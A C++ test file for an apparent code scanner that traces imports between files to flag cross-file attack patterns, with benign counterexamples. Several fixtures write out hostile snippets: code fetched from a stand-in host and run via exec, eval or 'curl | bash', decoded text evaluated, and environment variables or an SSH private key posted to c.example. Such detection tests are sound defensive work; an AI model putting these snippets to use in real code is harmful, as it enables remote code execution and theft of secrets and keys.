// SPDX-License-Identifier: Apache-2.0
// Flows through several files: a row is a small project, and what is found because its files use each other.
#include "inspect/import_graph.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <utility>

#include "inspect/file_kind.h"

namespace pawl {
namespace {

using Project = std::vector<std::pair<std::string, std::string>>;  // path and text

// `main.py content.runs-network-text 3`: file, rule and line, one a line.
[[nodiscard]] std::string found_in(const Project& project, std::size_t* cut = nullptr) {
  std::vector<FileNote> notes;
  std::vector<std::string> texts;
  std::string out;
  for (const auto& [path, text] : project) {
    for (const ContentFinding& alone : inspect_text(path, text).findings)
      out += "alone: " + path + " " + std::string(alone.rule->id) + "\n";
    std::optional<FileNote> note = note_file(path, text);
    if (!note) continue;
    notes.push_back(std::move(*note));
    texts.push_back(text);
  }
  FilesTogether files;
  files.text_of = [&](std::size_t i) { return std::optional<std::string>(texts[i]); };
  files.is_over = [] { return false; };
  files.tell = [&](std::size_t i, const std::string& text, const Inspected& inspected) {
    for (const ContentFinding& finding : inspected.findings) {
      const auto end = text.begin() + static_cast<std::ptrdiff_t>(finding.span.begin);
      out += notes[i].path + " " + std::string(finding.rule->id) + " " +
             std::to_string(std::count(text.begin(), end, '\n') + 1) + "\n";
    }
  };
  files.jobs = 3;
  const std::size_t unfollowed = inspect_together(notes, files);
  if (cut != nullptr) *cut = unfollowed;
  return out;
}

const std::string kFetch =
    "import urllib.request\n\ndef fetch(url):\n    return urllib.request.urlopen(url).read().decode()\n";
const std::string kRun = "import subprocess\n\ndef run(line):\n    return subprocess.run(line, shell=True)\n";
const std::string kSend =
    "import requests\n\ndef report(payload):\n    requests.post('https://c.example/i', data=payload)\n";

TEST(ImportGraph, a_function_of_another_file_brings_what_is_run) {
  EXPECT_EQ(found_in({{"helper.py", kFetch},
                      {"main.py", "from helper import fetch\n\nexec(fetch('https://c.example/a'))\n"}}),
            "main.py content.runs-network-text 3\n");
  EXPECT_EQ(found_in({{"pkg/__init__.py", ""},
                      {"pkg/net.py", kFetch},
                      {"main.py", "import pkg.net as n\neval(n.fetch('https://c.example/a'))\n"}}),
            "main.py content.runs-network-text 2\n");
  EXPECT_EQ(found_in({{"pkg/__init__.py", "from .net import fetch\n"},
                      {"pkg/net.py", kFetch},
                      {"main.py", "from pkg import fetch\nexec(fetch('https://c.example/a'))\n"}}),
            "main.py content.runs-network-text 2\n")
      << "handed on by a third file";
  EXPECT_EQ(found_in({{"lib/unpack.js", "exports.open = s => Buffer.from(s, 'base64').toString();\n"},
                      {"index.js", "const { open } = require('./lib/unpack');\neval(open(process.argv[2]));\n"}}),
            "index.js content.runs-decoded-text 2\n");
  EXPECT_EQ(found_in({{"src/net.ts", "export async function load(u: string) { return (await fetch(u)).text(); }\n"},
                      {"src/main.ts",
                       "import { load } from './net.js';\nnew Function(await load('https://c.example'))();\n"}}),
            "src/main.ts content.runs-network-text 2\n");
  EXPECT_EQ(found_in({{"net.mjs", "export default async function (u) { return (await fetch(u)).text(); }\n"},
                      {"main.mjs", "import get from './net.mjs';\neval(await get('https://c.example/a'));\n"}}),
            "main.mjs content.runs-network-text 2\n");
  EXPECT_EQ(found_in({{"lib/net.rb", "require 'net/http'\ndef fetch(u)\n  Net::HTTP.get(URI(u))\nend\n"},
                      {"main.rb", "require_relative 'lib/net'\neval(fetch('https://c.example/a'))\n"}}),
            "main.rb content.runs-network-text 2\n");
  EXPECT_EQ(found_in({{"lib/net.php", "<?php\nfunction load($u) { return file_get_contents($u); }\n"},
                      {"index.php", "<?php\nrequire __DIR__ . '/lib/net.php';\neval(load('https://c.example/a'));\n"}}),
            "index.php content.runs-network-text 3\n");
  EXPECT_EQ(found_in({{"lib.sh", "fetch() { curl -fsSL \"$1\"; }\n"},
                      {"setup.sh", "source ./lib.sh\nfetch https://c.example/a | bash\n"}}),
            "setup.sh content.pipes-network-to-shell 2\n");
  EXPECT_EQ(found_in({{"net.go",
                       "package main\n\nimport \"net/http\"\nimport \"io\"\n\nfunc load(u string) string {\n\tr, _ := "
                       "http.Get(u)\n\tb, _ := io.ReadAll(r.Body)\n\treturn string(b)\n}\n"},
                      {"main.go",
                       "package main\n\nimport \"os/exec\"\n\nfunc main() {\n\texec.Command(\"sh\", \"-c\", "
                       "load(\"https://c.example/a\")).Run()\n}\n"}}),
            "main.go content.runs-network-text 6\n");
}

TEST(ImportGraph, a_function_of_another_file_runs_or_sends_what_it_is_given) {
  EXPECT_EQ(
      found_in({{"run.py", kRun},
                {"main.py", "import requests\nfrom run import run\nrun(requests.get('https://c.example').text)\n"}}),
      "main.py content.runs-network-text 3\n");
  EXPECT_EQ(
      found_in({{"send.py", kSend}, {"main.py", "import os\nimport send\nsend.report(payload=dict(os.environ))\n"}}),
      "main.py content.sends-secrets 3\n");
  EXPECT_EQ(
      found_in({{"a/net.py", kFetch},
                {"a/run.py", kRun},
                {"a/main.py", "from .net import fetch\nfrom .run import run\nrun(fetch('https://c.example/a'))\n"}}),
      "a/main.py content.runs-network-text 3\n")
      << "the file itself has neither word";
  EXPECT_EQ(found_in({{"send.js",
                       "const https = require('https');\nmodule.exports = { push(d) { const r = "
                       "https.request('https://c.example', {method: 'POST'}); r.write(d); r.end(); } };\n"},
                      {"index.js", "const s = require('./send');\ns.push(JSON.stringify(process.env));\n"}}),
            "index.js content.sends-secrets 2\n");
  EXPECT_EQ(
      found_in({{"box.py",
                 "import requests\n\nclass Box:\n    def put(self, what):\n        "
                 "requests.post('https://c.example', data=what)\n"},
                {"main.py", "from box import Box\nbox = Box()\nbox.put(open('/home/user/.ssh/id_rsa').read())\n"}}),
      "main.py content.sends-keys 3\n");
}

TEST(ImportGraph, everyday_projects_are_left_alone) {
  const Project kProjects[] = {
      // Fetches in one file, shows in another.
      {{"net.py", kFetch}, {"main.py", "from net import fetch\nprint(fetch('https://c.example/a'))\n"}},
      // Runs what the project itself says.
      {{"run.py", kRun}, {"main.py", "from run import run\nrun('git status')\nrun('make -j4')\n"}},
      // Both are there, and nothing goes from one to the other.
      {{"net.py", kFetch},
       {"run.py", kRun},
       {"main.py", "from net import fetch\nfrom run import run\nprint(fetch('https://c.example'))\nrun('make')\n"}},
      // One token in a header.
      {{"api.py",
        "import os, requests\n\ndef get(path):\n    return requests.get('https://api.example.com' + path, "
        "headers={'Authorization': os.environ['API_TOKEN']}).json()\n"},
       {"main.py", "from api import get\nprint(get('/rows'))\n"}},
      // A name and a size are sent, not a secret.
      {{"send.py", kSend}, {"main.py", "from send import report\nreport({'name': 'build', 'files': 3})\n"}},
      // A decoded picture is written.
      {{"codec.js", "exports.decode = s => Buffer.from(s, 'base64');\n"},
       {"main.js",
        "const fs = require('fs');\nconst { decode } = require('./codec');\nfs.writeFileSync('a.png', "
        "decode(process.argv[2]));\nrequire('child_process').execSync('open a.png');\n"}},
      // A client of a service, used by a page.
      {{"src/client.ts", "export const load = async (u: string) => (await fetch(u)).json();\n"},
       {"src/page.tsx",
        "import { load } from './client';\nexport const Page = async () => <ul>{(await "
        "load('/api/rows')).map(r => <li>{r.name}</li>)}</ul>;\n"}},
      // Settings from the environment, used by a server.
      {{"config.js", "module.exports = () => ({ port: process.env.PORT, level: process.env.LOG_LEVEL });\n"},
       {"server.js",
        "const config = require('./config');\nconst http = require('http');\nhttp.createServer((q, s) => "
        "s.end('ok')).listen(config().port);\n"}},
      // Another function of the same file is used.
      {{"tools.py", kFetch + "\ndef title(text):\n    return text.title()\n"},
       {"main.py", "from tools import title\nexec(title('print(1)'))\n"}},
      // The same name, from the language's own library.
      {{"helper.py", kFetch}, {"main.py", "from json import loads as fetch\nexec(fetch('\"print(1)\"'))\n"}},
      // A library of logging for scripts.
      {{"log.sh", "say() { printf '%s\\n' \"$1\" >&2; }\n"},
       {"build.sh",
        ". ./log.sh\nsay 'fetching'\ncurl -fsSLO https://example.com/a.tar.gz\nsay done\nbash build-all.sh\n"}},
      // A download that is checked and unpacked, by a function of another file.
      {{"lib/get.rb", "require 'open-uri'\ndef get(u)\n  URI.open(u).read\nend\n"},
       {"main.rb",
        "require_relative 'lib/get'\nFile.write('data.json', get('https://example.com/data.json'))\nsystem('ls')\n"}},
      // Two packages of the same name in other folders.
      {{"a/net.py", kFetch}, {"b/main.py", "from net import fetch\nexec(fetch('https://c.example/a'))\n"}},
  };
  for (const Project& project : kProjects) EXPECT_EQ(found_in(project), "") << project.back().second;
}

TEST(ImportGraph, files_that_import_each_other_come_to_an_end) {
  EXPECT_EQ(found_in({{"a.py",
                       "from b import run\nimport requests\n\ndef get(u):\n    return "
                       "requests.get(u).text\n\nrun(get('https://c.example'))\n"},
                      {"b.py", "from a import get\nimport os\n\ndef run(x):\n    os.system(x)\n"}}),
            "a.py content.runs-network-text 7\n");
  EXPECT_EQ(found_in({{"a.py", "import a\nfrom a import x\n"}}), "");
}

TEST(ImportGraph, says_where_a_bound_was_met) {
  std::string many;
  for (int i = 0; i < 100; ++i) many += "import m" + std::to_string(i) + "\n";
  std::size_t cut = 0;
  EXPECT_EQ(found_in({{"a.py", many}}, &cut), "");
  EXPECT_EQ(cut, 1U);
  EXPECT_EQ(found_in({{"helper.py", kFetch + std::string(kMaxParsedBytes, '#')},
                      {"main.py", "from helper import fetch\nexec(fetch('https://c.example/a'))\n"}},
                     &cut),
            "");
  EXPECT_EQ(cut, 1U);
}

TEST(ImportGraph, the_order_of_the_files_changes_nothing) {
  const Project project = {
      {"a/main.py", "from .net import fetch\nfrom .run import run\nrun(fetch('https://c.example/a'))\n"},
      {"a/net.py", kFetch},
      {"a/run.py", kRun}};
  const Project turned(project.rbegin(), project.rend());
  EXPECT_EQ(found_in(project), "a/main.py content.runs-network-text 3\n");
  EXPECT_EQ(found_in(turned), found_in(project));
}

[[nodiscard]] std::string imports_of(std::string_view path, std::string_view text) {
  std::string out;
  const std::optional<FileNote> note = note_file(path, text);
  if (!note) return "not a program";
  for (const ImportLine& line : note->imports)
    out += (out.empty() ? "" : ", ") + line.module + (line.prefix == line.module ? "" : " as " + line.prefix);
  return out;
}

TEST(Imports, are_read_from_lines) {
  EXPECT_EQ(imports_of("a.py", "import os, pkg.mod as m\nfrom .x import a, b as c\n"), "os, pkg.mod, .x, .x.a, .x.b");
  EXPECT_EQ(imports_of("a.py", "from . import (\n  net,\n  run)\nfrom x import *\n"),
            "., .net as ..net, .run as ..run, x");
  EXPECT_EQ(imports_of("a.py", "from\nimport\nfrom x\nimport ,\nfrom x import (a"), "x, x.a");
  EXPECT_EQ(imports_of("a.js", "const a = require('./a'); import { b } from \"../b\"; x = './c\n'; y = a./b/.c;"),
            "./a, ../b");
  EXPECT_EQ(imports_of("a.rb", "require 'json'\nrequire_relative \"lib/x\"\nrequire_relative name\n"), "lib/x as ");
  EXPECT_EQ(imports_of("a.php", "<?php\nrequire_once(__DIR__ . '/x.php');\ninclude 'http://c.example/a';\n"),
            "x.php as ");
  EXPECT_EQ(imports_of("a.sh", ". \"$(dirname \"$0\")/lib/x.sh\"\nsource ./y.sh || exit\nsource \"$HOME/z.sh\"\n. \n"),
            "lib/x.sh as , ./y.sh as , z.sh as ");
  EXPECT_EQ(imports_of("a.txt", "import os\n"), "not a program");
}

TEST(Imports, stand_at_these_places) {
  const auto places = [](std::string_view path, std::string_view module) {
    FileNote note;
    note.path = path;
    note.language = find_language_files(path.ends_with(".py") ? "python" : "node");
    std::string out;
    for (const std::string& place : places_of({std::string(module), ""}, note)) out += (out.empty() ? "" : " ") + place;
    return out;
  };
  EXPECT_EQ(places("a/b/c.py", "x.y"),
            "a/b/x/y.py a/b/x/y/__init__.py a/x/y.py a/x/y/__init__.py x/y.py x/y/__init__.py");
  EXPECT_EQ(places("a/b/c.py", "..x"), "a/x.py a/x/__init__.py");
  EXPECT_EQ(places("a/b/c.py", "."), "a/b/__init__.py");
  EXPECT_TRUE(places("a/b/c.js", "../x").starts_with("a/x a/x.js a/x.ts "));
  EXPECT_TRUE(places("c.js", "../x").starts_with("../x ../x.js "));
}

}  // namespace
}  // namespace pawl
